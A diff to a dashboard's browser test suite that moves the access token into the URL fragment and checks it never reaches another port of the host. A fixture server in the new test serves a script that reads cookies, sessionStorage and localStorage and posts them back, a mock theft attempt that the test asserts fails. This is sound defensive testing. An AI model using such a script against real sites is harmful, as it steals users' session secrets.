@@ -3,10 +3,13 @@
 // server (start --http), checked against `status --json`, and used as a person would:
 // kill and retry by clicking (with the confirmation), a job's state and log followed live
 // (server-sent events, no reload), and screenshots of the main views at desktop and
-// phone widths written to DJS_SCREENSHOT_DIR (default: TMPDIR/djs-screenshots).
+// phone widths written to DJS_SCREENSHOT_DIR (default: TMPDIR/djs-screenshots). And the
+// token: it must reach no other port of the host, as a cookie would (browsers send
+// cookies to every port), and a page without it shows nothing.
 
 import assert from 'node:assert/strict';
 import fs from 'node:fs';
+import http from 'node:http';
 import os from 'node:os';
 import path from 'node:path';
 import { test } from 'node:test';
@@ -29,7 +32,7 @@ test('the dashboard shows the run, kills and retries by click, and follows a job
   writeScript(s.dir, 'quick.sh', 'echo "quick $1"; exit "$1"');
   const url = (await s.ok(['dashboard'])).trim();
   // The rest of the setup goes through the API: one client process less per step.
-  const token = new URL(url).searchParams.get('token')!;
+  const token = /#token=([0-9a-f]+)$/.exec(url)![1];
   const api = async (p: string, body?: unknown) => {
     const r = await fetch(new URL(p, url), body === undefined ? { headers: { Authorization: `Bearer ${token}` } }
       : { method: 'POST', headers: { Authorization: `Bearer ${token}`, 'Content-Type': 'application/json' }, body: JSON.stringify(body) });
@@ -61,7 +64,7 @@ test('the dashboard shows the run, kills and retries by click, and follows a job
 
   // The token comes once in the URL and leaves it.
   await page.goto(url);
-  assert.equal(new URL(page.url()).search, '', 'the token is gone from the address bar');
+  assert.doesNotMatch(page.url(), /token/, 'the token is gone from the address bar');
   await page.waitForSelector(`#job-table tr[data-id="${queued}"]`);
   await page.evaluate(() => { (window as any).notReloaded = true; });
   mark('page loaded');
@@ -147,4 +150,84 @@ test('the dashboard shows the run, kills and retries by click, and follows a job
 
   assert.deepEqual(problems, [], 'no errors in the page');
   for (const id of gated) release(s, id);
+});
+
+test('the token reaches no other port of the host: kept by the page, sent in a header, never a cookie', { skip: !fs.existsSync(CHROMIUM) && `no chromium at ${CHROMIUM} (apt-get install chromium)`, timeout: 120_000 }, async (t) => {
+  const s = await serve(t, { args: ['--http', '0'] });
+  await s.ok(['add_slave', '--skip_ssh_auth_check', 'w1']);
+  const url = (await s.ok(['dashboard'])).trim();
+  const base = new URL(url).origin;
+  const token = fs.readFileSync(path.join(s.dataDir, 'http.token'), 'utf8').trim();
+
+  // Another local user's web server, on another port of the same host: it keeps all it
+  // is sent, and its page reports what the browser lets a script of its origin read.
+  const got: string[] = [];
+  const other = http.createServer((req, res) => {
+    let body = '';
+    req.on('data', (c) => { body += c; });
+    req.on('end', () => {
+      got.push(JSON.stringify({ method: req.method, url: req.url, headers: req.headers, body }));
+      res.writeHead(200, { 'Content-Type': 'text/html' });
+      res.end(req.url === '/' ? `<img src="/pixel.png"><script>
+fetch('/report', { method: 'POST', credentials: 'include', body: JSON.stringify({ cookie: document.cookie, session: Object.assign({}, sessionStorage), local: Object.assign({}, localStorage) }) });
+</script>` : 'ok');
+    });
+  });
+  await new Promise<void>((resolve) => other.listen(0, '127.0.0.1', resolve));
+  t.after(() => { other.closeAllConnections(); other.close(); });
+  const otherBase = `http://127.0.0.1:${(other.address() as import('node:net').AddressInfo).port}`;
+
+  const browser = await chromium.launch({ executablePath: CHROMIUM });
+  t.after(() => browser.close());
+  const context = await browser.newContext();
+  const page = await context.newPage();
+  // The API requests the page made and had an answer to (one cut short by a navigation
+  // may show the browser's provisional headers only).
+  const apiRequests: { url: string; status: number; headers: Promise<Record<string, string>> }[] = [];
+  page.on('response', (r) => { if (r.url().startsWith(`${base}/api/`)) apiRequests.push({ url: r.url(), status: r.status(), headers: r.request().allHeaders() }); });
+
+  // The link of older versions and the one `dashboard` prints: both end on the page, its
+  // data shown and the token out of the address bar; a reload keeps it; it stays live.
+  assert.match(url, /^http:\/\/127\.0\.0\.1:\d+\/#token=[0-9a-f]{48}$/);
+  for (const u of [`${base}/?token=${token}`, url]) {
+    await page.goto(u);
+    await page.waitForSelector('#workers tr[data-host="w1"]');
+    assert.doesNotMatch(page.url(), /token/, `${u}: the token is gone from the address bar`);
+  }
+  await page.reload();
+  await page.waitForSelector('#workers tr[data-host="w1"]');
+  await s.ok(['add_slave', '--skip_ssh_auth_check', 'w2']);
+  await page.waitForSelector('#workers tr[data-host="w2"]', { timeout: 20_000 });
+  assert.ok(apiRequests.length >= 3, 'the page called the API');
+  for (const r of apiRequests) {
+    assert.equal(r.status, 200, r.url);
+    const h = await r.headers;
+    assert.equal(h.authorization, `Bearer ${token}`, `${r.url} carries the token in a header`);
+    assert.equal(h.cookie, undefined, `${r.url} carries no cookie`);
+  }
+
+  // The browser then visits the other port, in the same tab and in a new one.
+  await page.goto(`${otherBase}/`);
+  await until(() => got.filter((g) => g.includes('"url":"/report"')).length === 1, 'the report of the first visit');
+  const tab = await context.newPage();
+  await tab.goto(`${otherBase}/`);
+  await until(() => got.filter((g) => g.includes('"url":"/report"')).length === 2, 'the report of the second visit');
+  await tab.goto(`${otherBase}/again?x=1`);
+  assert.ok(got.length >= 5, `the other server was visited (${got.length} requests)`);
+  for (const g of got) assert.ok(!g.includes(token), `the other port got the token: ${g}`);
+  assert.deepEqual((await context.cookies()).filter((c) => c.value.includes(token)), [], 'no cookie holds the token');
+  assert.deepEqual(await context.cookies(), [], 'no cookie at all');
+
+  // A page opened without the token shows no data and says how to get it; with a wrong
+  // token, that the server refused it.
+  const stranger = await (await browser.newContext()).newPage();
+  await stranger.goto(`${base}/`);
+  await stranger.waitForSelector('#signin:not([hidden])');
+  assert.equal(await stranger.isHidden('#main-view'), true);
+  assert.equal(await stranger.isHidden('#job-view'), true);
+  assert.equal(await stranger.locator('#workers tr').count(), 0, 'no data');
+  await stranger.goto(`${base}/#token=${'0'.repeat(48)}`);
+  await stranger.waitForFunction(() => /refused/.test(document.getElementById('signin-why')!.textContent!));
+  assert.equal(await stranger.isHidden('#main-view'), true);
+  assert.equal(await stranger.locator('#workers tr').count(), 0, 'no data');
 });
